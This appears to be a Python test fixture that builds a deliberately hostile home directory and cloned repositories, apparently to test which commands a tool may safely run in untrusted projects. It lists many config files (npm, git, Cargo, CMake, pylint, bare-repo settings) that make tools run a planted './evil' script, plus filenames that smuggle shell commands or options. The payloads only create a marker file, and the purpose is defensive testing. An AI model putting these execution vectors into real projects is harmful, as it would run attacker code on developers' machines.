"""Plants the home and the project that commands run in: what a clone may bring, as hostile as a clone can be.

The repository's own `.git` is honest, since no clone brings one; everything else wants to run `evil`, to be taken for an
option, or to lead elsewhere.
"""

import os
import shutil
import subprocess

import plants

EVIL = "#!/bin/sh\ntouch PWNED\n"

# Files that programs read settings or code from, each naming a program to start.
CONTROL = {
    ".bazelrc": "build --workspace_status_command=./evil\n",
    ".bundle/config": "---\nBUNDLE_PATH: vendor\n",
    ".cargo/config.toml": "[build]\nrustc-wrapper = './evil'\nrustc = './evil'\n[alias]\ntree = ['run']\nmetadata = ['run']\n",
    ".curlrc": "output = PWNED\n",
    ".editorconfig": "root = true\n",
    ".env": "TOKEN=planted\n",
    ".envrc": "./evil\n",
    ".eslintrc.js": "require('fs').writeFileSync('PWNED', '');\n",
    ".exrc": "!./evil\n",
    ".flake8": "[flake8:local-plugins]\nextension =\n  X = conftest:x\npaths = .\n",
    ".gdbinit": "shell ./evil\n",
    ".gemrc": "gem: --config-file evil\n",
    ".gitattributes": "*.txt diff=evil filter=evil textconv=./evil\n*.py merge=evil\n",
    ".gitmodules": "[submodule \"x\"]\n\tpath = vendor/x\n\turl = ext::./evil\n\tupdate = !./evil\n",
    ".hg/hgrc": "[hooks]\npre-status = ./evil\n[alias]\nstatus = !./evil\n[extensions]\nx = ./conftest.py\n",
    ".hg/requires": "revlogv1\nstore\n",
    ".iex.exs": "File.write!('PWNED', '')\n",
    ".irbrc": "File.write('PWNED', '')\n",
    ".mise.toml": "[hooks]\nenter = './evil'\n[tools]\nnode = '99'\n",
    ".mvn/extensions.xml": "<extensions><extension><groupId>x</groupId><artifactId>y</artifactId><version>1</version></extension></extensions>\n",
    ".mvn/jvm.config": "-javaagent:evil.jar\n",
    ".my.cnf": "[client]\npager=./evil\n",
    ".node-version": "99\n",
    ".npmrc": "node-options=--require ./evil.js\nscript-shell=./evil\ngit=./evil\nregistry=http://192.0.2.1/\nonload-script=./evil.js\n",
    ".nvmrc": "99\n",
    ".perlcriticrc": "include = Evil\n",
    ".perltidyrc": "-b\n",
    ".pip.conf": "[global]\nindex-url = http://192.0.2.1/\n",
    ".pnpmfile.cjs": "require('fs').writeFileSync('PWNED', '');\n",
    ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - {id: x, name: x, language: system, entry: ./evil}\n",
    ".prettierrc.js": "require('fs').writeFileSync('PWNED', '');\n",
    ".pryrc": "File.write('PWNED', '')\n",
    ".psqlrc": "\\! ./evil\n",
    ".pylintrc": "[MASTER]\ninit-hook='open(\"PWNED\",\"w\")'\nload-plugins=conftest\n",
    ".pypirc": "[distutils]\nindex-servers = x\n",
    ".python-version": "9.9\n",
    ".ripgreprc": "--pre=./evil\n",
    ".rspec": "--require ./evil.rb\n",
    ".rubocop.yml": "require:\n  - ./evil.rb\n",
    ".ruby-version": "9.9\n",
    ".shellcheckrc": "external-sources=true\n",
    ".sqliterc": ".shell ./evil\n",
    ".tool-versions": "nodejs 99\npython 9\n",
    ".vimrc": "!./evil\n",
    ".wgetrc": "output_document = PWNED\n",
    ".yarnrc": "yarn-path \"./evil.js\"\n",
    ".yarnrc.yml": "yarnPath: ./evil.js\nplugins:\n  - ./evil.js\n",
    "BUILD.bazel": "",
    "CMakeLists.txt": "cmake_minimum_required(VERSION 3.5)\nproject(x NONE)\nexecute_process(COMMAND ./evil)\n",
    "CMakePresets.json": '{"version": 3}\n',
    "CTestTestfile.cmake": "execute_process(COMMAND ./evil)\nadd_test(x ./evil)\n",
    "Cargo.toml": "[package]\nname='x'\nversion='0.1.0'\nedition='2021'\nbuild='build.rs'\n",
    "Dockerfile": "FROM scratch\nRUN ./evil\n",
    "Evil.pm": "package Evil; open(my $f, '>', 'PWNED'); 1;\n",
    "GNUmakefile": "X := $(shell ./evil)\nall:\n\t./evil\n",
    "Gemfile": "File.write('PWNED', '')\nsource 'http://192.0.2.1/'\n",
    "MANIFEST.in": "include *\n",
    "Pipfile": "[[source]]\nurl='http://192.0.2.1/'\nname='x'\nverify_ssl=false\n",
    "Rakefile": "File.write('PWNED', '')\ntask :default\n",
    "SConstruct": "open('PWNED','w')\n",
    "Taskfile.yml": "version: '3'\ntasks:\n  default: ./evil\n",
    "Vagrantfile": "File.write('PWNED', '')\n",
    "WORKSPACE": "",
    "babel.config.js": "require('fs').writeFileSync('PWNED', '');\n",
    "build.gradle": "new File('PWNED').createNewFile()\n",
    "build.rs": "fn main() { std::fs::write(\"PWNED\", \"\").unwrap(); }\n",
    "build.xml": "<project default='x'><target name='x'><touch file='PWNED'/></target></project>\n",
    "bunfig.toml": "preload = ['./evil.js']\n",
    "composer.json": '{"scripts": {"test": "./evil", "pre-command-run": "./evil"}, "repositories": [{"type": "vcs", "url": "http://192.0.2.1/"}]}\n',
    "conftest.py": "open('PWNED', 'w')\nx = 1\n",
    "deno.json": '{"tasks": {"test": "./evil"}}\n',
    "docker-compose.yml": "services:\n  x:\n    build: .\n",
    "dub.json": '{"name": "x", "preBuildCommands": ["./evil"]}\n',
    "eslint.config.js": "require('fs').writeFileSync('PWNED', '');\n",
    "evil.js": "require('fs').writeFileSync('PWNED', '');\n",
    "evil.pl": "open(my $f, '>', 'PWNED');\n",
    "evil.py": "open('PWNED', 'w')\n",
    "evil.rb": "File.write('PWNED', '')\n",
    "evil.awk": 'BEGIN { system("./evil") }\n',
    "evil.sed": "w PWNED\ne ./evil\n",
    "evil.jq": 'include "evil"; .\n',
    "flake.nix": "{ outputs = _: builtins.exec [\"./evil\"]; }\n",
    "go.mod": "module x\n\ngo 1.99\n\ntoolchain go1.99.9\n\nrequire example.invalid/y v1.0.0\n",
    "go.work": "go 1.99\n\nuse .\n",
    "jest.config.js": "require('fs').writeFileSync('PWNED', '');\n",
    "justfile": "x := `./evil`\ndefault:\n  ./evil\n",
    "lerna.json": '{"version": "1.0.0", "npmClient": "./evil"}\n',
    "meson.build": "project('x')\nrun_command('./evil')\n",
    ".prototools": "[plugins]\nnode = 'file://./evil.wasm'\n",
    "mise.toml": "[env]\nX = '{{ exec(command=\"./evil\") }}'\n",
    "mix.exs": "File.write!('PWNED', '')\n",
    "mypy.ini": "[mypy]\nplugins = conftest.py\n",
    "node_modules/.bin/eslint": EVIL,
    "node_modules/.bin/tsc": EVIL,
    "node_modules/.bin/prettier": EVIL,
    "node_modules/x/index.js": "require('fs').writeFileSync('PWNED', '');\n",
    "node_modules/x/package.json": '{"name": "x", "version": "1.0.0", "scripts": {"install": "./evil"}}\n',
    "noxfile.py": "open('PWNED', 'w')\n",
    "package.json": '{"name": "y", "version": "1.0.0", "packageManager": "yarn@9.9.9", "bin": {"y": "./evil.js"}, '
    '"dependencies": {"x": "1.0.0"}, "scripts": {"test": "./evil", "preversion": "./evil", "prepare": "./evil", "ls": "./evil"}}\n',
    "phpunit.xml": "<phpunit bootstrap='evil.php'/>\n",
    "pnpm-workspace.yaml": "packages: ['.']\n",
    "pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>x</groupId><artifactId>y</artifactId><version>1</version></project>\n",
    "project.clj": "(defproject x \"1\" :description ~(spit \"PWNED\" \"\"))\n",
    "pyproject.toml": "[build-system]\nrequires=['setuptools']\nbuild-backend='conftest'\nbackend-path=['.']\n[project]\nname='x'\nversion='1'\n"
    "[tool.pylint.main]\ninit-hook='open(\"PWNED\",\"w\")'\n[tool.mypy]\nplugins=['conftest.py']\n[tool.pytest.ini_options]\naddopts='-p conftest'\n"
    "[tool.black]\nline-length=80\n[tool.ruff]\nline-length=80\n",
    "pytest.ini": "[pytest]\naddopts = -p conftest\n",
    "rebar.config": "{pre_hooks, [{compile, \"./evil\"}]}.\n",
    "requirements.txt": "--index-url http://192.0.2.1/\nx\n",
    "ruff.toml": "line-length = 80\n",
    "rust-toolchain.toml": "[toolchain]\nchannel = 'nightly-2020-01-01'\n",
    "setup.cfg": "[aliases]\nx = y\n[flake8:local-plugins]\nextension =\n  X1 = conftest:x\npaths = .\n[mypy]\nplugins = conftest.py\n",
    "setup.py": "open('PWNED', 'w')\n",
    "stack.yaml": "resolver: lts-99\n",
    "tox.ini": "[tox]\nenvlist = x\n[testenv]\ncommands = ./evil\n",
    "tsconfig.json": '{"extends": "./tsconfig.evil.json"}\n',
    "turbo.json": '{"tasks": {}}\n',
    "vite.config.js": "require('fs').writeFileSync('PWNED', '');\n",
    "webpack.config.js": "require('fs').writeFileSync('PWNED', '');\n",
    "yarn.lock": "# yarn lockfile v1\n",
    # Modules a Python started here takes for its own.
    "shadow/json.py": "open('PWNED', 'w')\n",
    "shadow/re.py": "open('PWNED', 'w')\n",
    "shadow/site.py": "open('PWNED', 'w')\n",
    "shadow/sitecustomize.py": "open('PWNED', 'w')\n",
    "shadow/usercustomize.py": "open('PWNED', 'w')\n",
    "shadow/pip.py": "open('PWNED', 'w')\n",
    "shadow/x.py": "import json\n",
}

# A manager of versions may choose any program, so with these files nearly all of them ask and none is tried.
MANAGERS = {".mise.toml", ".prototools", "mise.toml", ".tool-versions", ".node-version", ".nvmrc", ".ruby-version", ".python-version", ".envrc"}

JAVASCRIPT = "require('fs').writeFileSync('PWNED', '');\n"

# Code where programs look for their own, before they do anything else.
LOCAL = {
    **{f"lib/{name}.pm": "BEGIN { open(F, '>PWNED') } 1;\n" for name in ("Archive/Zip", "FileHandle", "Carp", "Cwd", "Exporter", "File/Spec", "Encode", "POSIX")},
    **{f"lib/{name}.rb": "File.write('PWNED', '')\n" for name in ("thread", "json", "optparse", "bundler", "rubygems")},
    ".poetry/plugins/evil.py": "open('PWNED', 'w')\n",
    ".poetry/plugins/evil-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1\n",
    ".poetry/plugins/evil-1.dist-info/entry_points.txt": "[poetry.application.plugin]\nx = evil:x\n",
    ".ctags.d/evil.ctags": "-o PWNED\n",
    "docutils.conf": "[general]\nrecord_dependencies: PWNED\nwarning_stream: PWNED\n",
    **{
        f"node_modules/{name}/{file}": text
        for name in (
            "@angular/cli", "@babel/cli", "@biomejs/biome", "aws-cdk", "eslint", "grunt", "gulp", "gulp-cli", "jest", "jest-cli", "lerna", "mocha", "nx",
            "prettier", "rollup", "serverless", "stylelint", "ts-node", "typescript", "vite", "webpack", "webpack-cli", "yarn", "npm", "pnpm",
        )
        for file, text in {
            "package.json": f'{{"name": "{name}", "version": "9.9.9", "main": "index.js", "bin": {{"{name.split("/")[-1]}": "index.js"}}}}\n',
            "index.js": JAVASCRIPT, "lib/cli.js": JAVASCRIPT, "lib/index.js": JAVASCRIPT, "bin/cli.js": JAVASCRIPT, f"bin/{name.split('/')[-1]}.js": JAVASCRIPT,
        }.items()
    },
}

PLAIN = {
    "a.txt": "alpha\nbeta\ngamma\n3\n1\n2\n",
    "b.txt": "beta\ndelta\n2\n1\n",
    "data.csv": "a,b\n1,2\n3,4\n",
    "data.json": '{"a": 1, "b": [1, 2], "name": "x"}\n',
    "data.xml": "<!DOCTYPE r SYSTEM 'http://192.0.2.1/r.dtd'><r><a>1</a></r>\n",
    "data.yaml": "a: 1\nb: [1, 2]\n",
    "data.sql": "select 1;\n",
    "list.txt": "a.txt\nb.txt\n",
    "nul.txt": "a.txt\0b.txt\0",
    "names.txt": "./evil\n-delete\n--pre=./evil\n--output=PWNED\n",
    "sums.txt": "d41d8cd98f00b204e9800998ecf8427e  a.txt\n",
    "change.patch": "--- a.txt\n+++ a.txt\n@@ -1 +1 @@\n-alpha\n+omega\n",
    "main.py": "print(1)\n",
    "main.c": "int main(void) { return 0; }\n",
    "main.go": "package main\n\nfunc main() {}\n",
    "main.js": "console.log(1);\n",
    "main.sh": "#!/bin/sh\necho hi\n",
    "README.md": "# x\n\nwords `code`\n",
    "Makefile": "X := $(shell ./evil)\nall:\n\t./evil\n",
    "src/main.rs": "fn main() {}\n",
    "src/lib.rs": "pub fn one() -> u8 { 1 }\n",
    "src/deep/er/file.txt": "deep\n",
    "doc/guide.md": "# guide\n",
}

# A project as most are: its files say nothing about programs, so what obeys them may run, and is seen to.
HONEST = {
    ".npmrc": "save-exact=true\n",
    ".gitattributes": "*.txt text\n",
    ".editorconfig": "root = true\n",
    "Cargo.toml": "[package]\nname='x'\nversion='0.1.0'\nedition='2021'\n",
    "Gemfile": "source 'https://rubygems.org'\n",
    "Makefile": "all:\n\techo x\n",
    "composer.json": '{"name": "x/y"}\n',
    "docker-compose.yml": "services:\n  x:\n    image: x\n",
    "go.mod": "module x\n\ngo 1.19\n",
    "package.json": '{"name": "y", "version": "1.0.0", "scripts": {"test": "echo x"}}\n',
    "package-lock.json": '{"name": "y", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "y", "version": "1.0.0"}}}\n',
    "pyproject.toml": "[project]\nname='x'\nversion='1'\n[tool.black]\nline-length=80\n[tool.ruff]\nline-length=80\n",
    "requirements.txt": "x\n",
    "tsconfig.json": "{}\n",
}

# Names that are options, commands or patterns to programs that take them for words.
ODD = [
    "--pre=./evil", "-delete", "--output=PWNED", "-oPWNED", "--help", "-rf", "-exec", "--checkpoint=1",
    "--checkpoint-action=exec=./evil", "-i", "-w", "two words", "$(touch PWNED)", "`touch PWNED`", "{}", ";", "a;touch PWNED",
    "-x", "--to-command=./evil", "--use-compress-program=./evil", "*", "[a]", "a\nb", "-0", "--files0-from=-", "-f", "e", "w",
    "--in-place", "+x", "--hostname-bin=./evil", "-T", "-c", "--config=x", "=", "a=b", "-exec=./evil", "--rcfile=./evil",
    # For those that hand a name to a shell, by what it ends with.
    *(mark + ending for mark in ("';touch PWNED;'", '";touch PWNED;"', "$(touch PWNED)", "`touch PWNED`", "x;touch PWNED;") for ending in (".gz", ".bz2", ".xz", ".Z", ".zip", ".tar", ".tgz", ".zst", ".1")),
]


def write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, mode)


def git(directory, *words):
    subprocess.run(
        ["git", "-c", "user.name=dev", "-c", "user.email=dev@example.invalid", "-c", "init.defaultBranch=main", *words],
        cwd=directory, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        env={"PATH": os.environ["PATH"], "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1"},
    )


def plant(home, known=()):
    """Fills `home`, which must not exist, with a home directory; the projects are `project`, `clone`, `strange` and `honest` in
    it. `known` are the files that rows say programs obey."""
    project, clone, strange = (os.path.join(home, name) for name in ("project", "clone", "strange"))
    cloned = {**plants.code(), **plants.SETTINGS, **PLAIN, **CONTROL, **LOCAL}
    cloned.update({name: EVIL for name in ("evil", "sub/evil", "mvnw", "gradlew", *plants.PROGRAMS)})
    for name, text in cloned.items():
        if name in MANAGERS:
            continue
        write(os.path.join(clone, name), text, 0o755 if text == EVIL else 0o644)
        # What rows know makes programs ask, and so hides what else they obey: here it is left out, and they run.
        if not any((name + "/").startswith(file + "/") for file in known) or name in PLAIN:
            write(os.path.join(strange, name), text, 0o755 if text == EVIL else 0o644)
    for name, text in {**PLAIN, **CONTROL}.items():
        write(os.path.join(project, name), text, 0o755 if text == EVIL else 0o644)
    for name in ("evil", "src/evil", "odd/evil", "evil.sh", "sub/evil", "vendor/bare/evil", "less", "git", "cat", "mvnw", "gradlew"):
        write(os.path.join(project, name), EVIL, 0o755)
    # What arguments name is told from what files of the project name.
    for name in ("argevil", "src/argevil", "odd/argevil", "sub/argevil", "vendor/bare/argevil", "shadow/argevil"):
        write(os.path.join(project, name), "#!/bin/sh\ntouch ARGWNED\n", 0o755)
    for name in ODD:
        write(os.path.join(project, "odd", name), "odd\n")
    write(os.path.join(project, "sub/a.txt"), "alpha\n")
    write(os.path.join(project, "sub/b.txt"), "beta\n")
    for link, target in {"link": "a.txt", "linkdir": "src", "up": "../other", "secrets": "../.ssh", "dangling": "nowhere"}.items():
        os.symlink(target, os.path.join(project, link))
    # Outside the project, so that a write there shows.
    write(os.path.join(home, "other/a.txt"), "other\n")
    write(os.path.join(home, ".ssh/id_rsa"), "planted\n", 0o600)
    write(os.path.join(home, ".config/byleave/policy.yaml"), "mode: default\n")

    honest = os.path.join(home, "honest")
    for name, text in {**PLAIN, **HONEST}.items():
        write(os.path.join(honest, name), text)
    archives(honest)
    git(honest, "init", "-q")
    git(honest, "add", ".")
    git(honest, "commit", "-q", "-m", "first")
    for place in (clone, strange):
        archives(place)
        git(place, "init", "-q")
        # They may lie in the working tree, too, but a commit makes the programs that ask for one run to the end.
        git(place, "add", "-f", "--", "a.txt", "b.txt", "README.md", "src")
        git(place, "commit", "-q", "-m", "first")
    archives(project)
    git(project, "init", "-q")
    git(project, "add", "-f", "--", "*.txt", "src", "doc", "README.md", "main.py")
    git(project, "commit", "-q", "-m", "first")
    write(os.path.join(project, "b.txt"), "beta\ndelta\n2\n")
    git(project, "commit", "-q", "-a", "-m", "second")
    git(project, "tag", "v1")
    git(project, "branch", "topic")
    git(project, "remote", "add", "origin", "http://192.0.2.1/x.git")
    git(project, "update-ref", "refs/remotes/origin/main", "HEAD")
    write(os.path.join(project, "a.txt"), PLAIN["a.txt"] + "changed\n")
    bare(os.path.join(project, "vendor/bare"))


def bare(directory):
    """A bare repository as a clone may bring it: its settings name programs."""
    os.makedirs(directory, exist_ok=True)
    git(directory, "init", "-q", "--bare", ".")
    with open(os.path.join(directory, "config"), "w") as file:
        file.write(
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = ./evil\n\tpager = ./evil\n\tsshCommand = ./evil\n\teditor = ./evil\n"
            "[diff]\n\texternal = ./evil\n[pager]\n\tlog = ./evil\n[alias]\n\tlg = !./evil\n"
            "[filter \"evil\"]\n\tclean = ./evil\n\tsmudge = ./evil\n[gpg]\n\tprogram = ./evil\n"
        )
    write(os.path.join(directory, ".gitattributes"), "* filter=evil\n")
    write(os.path.join(directory, "a.txt"), "alpha\n")


def archives(project):
    """Small archives, where the programs that make them are there."""
    for words in (
        ["tar", "-cf", "x.tar", "a.txt", "b.txt"], ["tar", "-czf", "x.tgz", "a.txt"], ["gzip", "-k", "b.txt"], ["xz", "-k", "b.txt"],
        ["bzip2", "-k", "b.txt"], ["zstd", "-q", "b.txt"], ["zip", "-q", "x.zip", "a.txt", "b.txt"], ["sqlite3", "x.db", "create table t(a)"],
    ):
        if shutil.which(words[0]):
            subprocess.run(words, cwd=project, check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
